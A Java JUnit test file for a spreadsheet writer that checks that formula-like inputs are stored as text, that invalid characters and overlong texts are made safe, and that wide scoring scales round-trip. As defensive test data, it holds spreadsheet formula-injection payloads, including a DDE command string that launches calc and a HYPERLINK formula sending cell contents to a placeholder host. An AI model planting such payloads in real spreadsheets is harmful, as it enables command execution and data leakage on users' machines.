package org.kaname.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataValidation;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.kaname.model.Criterion;
import org.kaname.model.Direction;
import org.kaname.model.FiscalYears;
import org.kaname.model.Limits;
import org.kaname.model.Measure;
import org.kaname.model.MeasureGroup;
import org.kaname.model.Pillar;
import org.kaname.model.Plan;
import org.kaname.model.Rater;
import org.kaname.model.Scale;
import org.kaname.model.Score;

/**
 * The writer on plans at and beyond the limits: texts that look like formulas stay text, characters XML cannot hold
 * and texts longer than a cell are made safe, scales of up to {@link Limits#MAX_SCALE_LEVELS} levels are listed and
 * round-trip, a wider one (stored before the validator checked) still writes, a measure without a group writes an
 * empty group cell. Built directly from model values, as a plan stored before the validator's checks could be.
 */
class SheetWriterLimitsTest {
    static final Instant NOW = Instant.parse("2026-01-15T03:00:00Z");

    @TempDir
    Path dir;

    private static Plan plan(List<Measure> measures, List<Criterion> criteria, List<Rater> raters, List<Score> scores) {
        return Plan.empty("上限の確認", new FiscalYears(2026, 2030)).withCriteria(criteria)
                .withStructure(List.of(new Pillar("P", "柱", "")),
                        List.of(new MeasureGroup("G", null, "支援策", "", List.of(), List.of())), measures)
                .withRatersAndScores(raters, scores);
    }

    private static Criterion criterion(String id, Scale scale) {
        return new Criterion(id, "基準 " + id, "", 1, Direction.BENEFIT, scale);
    }

    private static XSSFWorkbook written(Plan plan, List<Rater> raters) throws Exception {
        byte[] bytes = new ScoreSheetWriter(plan, 1, Locale.JAPANESE, NOW).write(raters);
        // opened as the reader opens sheets: repeated characters compress beyond POI's own zip-bomb ratio
        return (XSSFWorkbook) new SheetFile().open(new ByteArrayInputStream(bytes));
    }

    @Test
    void titlesThatLookLikeFormulasAreStoredAsText() throws Exception {
        List<String> titles = List.of("=HYPERLINK(\"http://example.invalid/\"&A1,\"click me\")", "+1+2", "-3",
                "@SUM(A1:A2)", "\t=1+1", "\r=1+1");
        List<Measure> measures = new java.util.ArrayList<>();
        for (int i = 0; i < titles.size(); i++) {
            measures.add(new Measure("M" + i, "G", titles.get(i), "=1+1", "", 0, 0, 1, null, List.of(), List.of(),
                    List.of(), List.of(), null));
        }
        Rater rater = new Rater("r1", "=cmd|' /C calc'!A0");
        Plan plan = plan(measures, List.of(criterion("c", Scale.DEFAULT)), List.of(rater),
                List.of(new Score("M0", "c", "r1", 3, "=1+2", NOW)));
        try (XSSFWorkbook wb = written(plan, List.of(rater))) {
            XSSFSheet entry = wb.getSheet("記入");
            for (int i = 0; i < titles.size(); i++) {
                XSSFCell title = entry.getRow(SheetLayout.FIRST_DATA_ROW + i).getCell(SheetLayout.COL_TITLE);
                assertThat(title.getCellType()).as(titles.get(i)).isEqualTo(CellType.STRING);
                assertThat(title.getStringCellValue()).isEqualTo(titles.get(i));
                XSSFCell description = entry.getRow(SheetLayout.FIRST_DATA_ROW + i)
                        .getCell(SheetLayout.COL_DESCRIPTION);
                assertThat(description.getCellType()).isEqualTo(CellType.STRING);
            }
            XSSFCell note = entry.getRow(SheetLayout.FIRST_DATA_ROW).getCell(SheetLayout.COL_NOTE);
            assertThat(note.getCellType()).isEqualTo(CellType.STRING);
            assertThat(note.getStringCellValue()).isEqualTo("=1+2");
            assertThat(entry.getRow(0).getCell(SheetLayout.COL_CRITERION).getCellType()).isEqualTo(CellType.STRING);
            // no cell of any sheet is a formula
            for (int s = 0; s < wb.getNumberOfSheets(); s++) {
                wb.getSheetAt(s).forEach(row -> row.forEach(c -> assertThat(c.getCellType())
                        .as("%s!%s", c.getSheet().getSheetName(), c.getAddress()).isNotEqualTo(CellType.FORMULA)));
            }
        }
    }

    @Test
    void loneSurrogatesControlCharactersAndOverlongTextsAreMadeSafe() throws Exception {
        String huge = "長".repeat(40_000);
        Measure m = new Measure("M1", "G", "半端\uD800な題\u0001名", huge, "", 0, 0, 1, null, List.of(), List.of(),
                List.of(), List.of(), null);
        Rater rater = new Rater("r1", "企画課\uDC00" + "あ".repeat(40));
        Plan plan = plan(List.of(m), List.of(criterion("c", Scale.DEFAULT)), List.of(rater),
                List.of(new Score("M1", "c", "r1", 2, "x".repeat(40_000), NOW)));
        try (XSSFWorkbook wb = written(plan, List.of(rater, new Rater("r2", "企画課")))) {
            XSSFSheet entry = wb.getSheetAt(0);
            assertThat(entry.getSheetName()).hasSizeLessThanOrEqualTo(31).doesNotContain("\uDC00");
            var row = entry.getRow(SheetLayout.FIRST_DATA_ROW);
            assertThat(row.getCell(SheetLayout.COL_TITLE).getStringCellValue()).isEqualTo("半端\uFFFDな題\uFFFD名");
            String description = row.getCell(SheetLayout.COL_DESCRIPTION).getStringCellValue();
            assertThat(description).hasSize(CellText.MAX_CELL_CHARS).endsWith("…（以下省略）").startsWith("長長長");
            assertThat(row.getCell(SheetLayout.COL_NOTE).getStringCellValue()).hasSize(CellText.MAX_CELL_CHARS);
            assertThat(row.getHeightInPoints()).isLessThanOrEqualTo(409f);
        }
    }

    @Test
    void aScaleOf101LevelsIsListedValidatedAndReadBack() throws Exception {
        Map<Integer, String> texts = new TreeMap<>();
        for (int level = 0; level <= 100; level++) {
            texts.put(level, "段階 " + level + " の説明");
        }
        Criterion wide = criterion("pct", Scale.of(0, 100, texts));
        Rater rater = new Rater("r1", "企画課");
        Plan plan = plan(List.of(Measure.of("M1", "G", "施策"), Measure.of("M2", null, "支援策のない施策")),
                List.of(wide, criterion("c", Scale.DEFAULT)), List.of(rater),
                List.of(new Score("M1", "pct", "r1", 100, "", NOW)));
        Path file = dir.resolve("sheet.xlsx");
        Files.write(file, new ScoreSheetWriter(plan, 1, Locale.JAPANESE, NOW).write(List.of(rater)));
        try (XSSFWorkbook wb = new XSSFWorkbook(Files.newInputStream(file))) {
            XSSFSheet criteria = wb.getSheet("評価基準");
            assertThat(criteria.getRow(1).getCell(3).getNumericCellValue()).isEqualTo(100.0);
            assertThat(criteria.getRow(101).getCell(3).getNumericCellValue()).isEqualTo(0.0);
            assertThat(criteria.getRow(101).getCell(4).getStringCellValue()).isEqualTo("段階 0 の説明");
            assertThat(criteria.getRow(102).getCell(0).getStringCellValue()).isEqualTo("c");
            DataValidation pct = wb.getSheet("記入").getDataValidations().stream()
                    .filter(v -> v.getValidationConstraint().getFormula2().equals("100")).findFirst().orElseThrow();
            assertThat(pct.getValidationConstraint().getFormula1()).isEqualTo("0");
            assertThat(pct.getPromptBoxText()).hasSizeLessThanOrEqualTo(255);
            XSSFSheet entry = wb.getSheet("記入");
            // M2 has no group: its group cell is empty
            assertThat(entry.getRow(SheetLayout.FIRST_DATA_ROW + 2).getCell(SheetLayout.COL_GROUP)
                    .getStringCellValue()).isEmpty();
            assertThat(entry.getRow(SheetLayout.FIRST_DATA_ROW).getCell(SheetLayout.COL_GROUP)
                    .getStringCellValue()).isEqualTo("支援策");
        }
        SheetFixture.edit(file, wb -> SheetFixture.cell(wb.getSheet("記入"), "G6").setCellValue(0));
        FileReport report = new ScoreSheetReader(plan, Locale.JAPANESE).read(file);
        assertThat(report.problems()).isEmpty();
        assertThat(report.accepted()).extracting(SheetEntry::value).containsExactly(100.0, null, 0.0, null);
    }

    @Test
    void aScaleWiderThanTheLimitStoredEarlierStillWritesListingItsEnds() throws Exception {
        Criterion huge = criterion("big", Scale.of(1, 1_000_000_000, Map.of(500, "中間")));
        Rater rater = new Rater("r1", "企画課");
        Plan plan = plan(List.of(Measure.of("M1", "G", "施策")), List.of(huge), List.of(rater), List.of());
        try (XSSFWorkbook wb = written(plan, List.of(rater))) {
            XSSFSheet criteria = wb.getSheet("評価基準");
            assertThat(criteria.getLastRowNum()).isEqualTo(3);
            assertThat(List.of(criteria.getRow(1).getCell(3).getNumericCellValue(),
                    criteria.getRow(2).getCell(3).getNumericCellValue(),
                    criteria.getRow(3).getCell(3).getNumericCellValue())).containsExactly(1e9, 500.0, 1.0);
        }
    }
}
